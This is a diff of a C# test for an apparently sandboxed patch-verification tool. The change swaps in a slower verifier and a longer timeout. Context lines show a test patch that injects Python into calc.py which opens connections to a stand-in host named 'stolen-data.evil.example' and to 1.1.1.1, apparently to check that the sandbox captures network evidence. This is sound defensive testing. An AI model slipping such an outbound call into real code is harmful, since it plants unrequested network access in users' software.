@@ -24,8 +24,8 @@ public sealed class NetworkEvidenceTests(DockerSandboxes sandboxes) : IClassFixt
         using var repository = await TestRepository.CreateAsync(("calc.py", SampleProject.Buggy), ("test_calc.py", Tests.ReplaceLineEndings("\n")));
         var patch = await repository.PatchAsync(("calc.py", $"import socket\n\nfor target in ('stolen-data.evil.example', '1.1.1.1'):\n    try:\n        socket.create_connection((target, 443), 30)\n    except OSError:\n        pass\n\n\n{SampleProject.Fixed}"));
 
-        var result = await sandboxes.Verifier.VerifyAsync(
-            new VerificationRequest(async token => await sandboxes.OpenAsync(repository, token), patch, "python3 -m pytest -q", [], TimeSpan.FromMinutes(2), new Progress<string>()), default);
+        var result = await sandboxes.PatientVerifier.VerifyAsync(
+            new VerificationRequest(async token => await sandboxes.OpenAsync(repository, token), patch, "python3 -m pytest -q", [], TimeSpan.FromMinutes(5), new Progress<string>()), default);
 
         Assert.True(result.Verified, result.Reason);
         var (before, after) = result.Network;
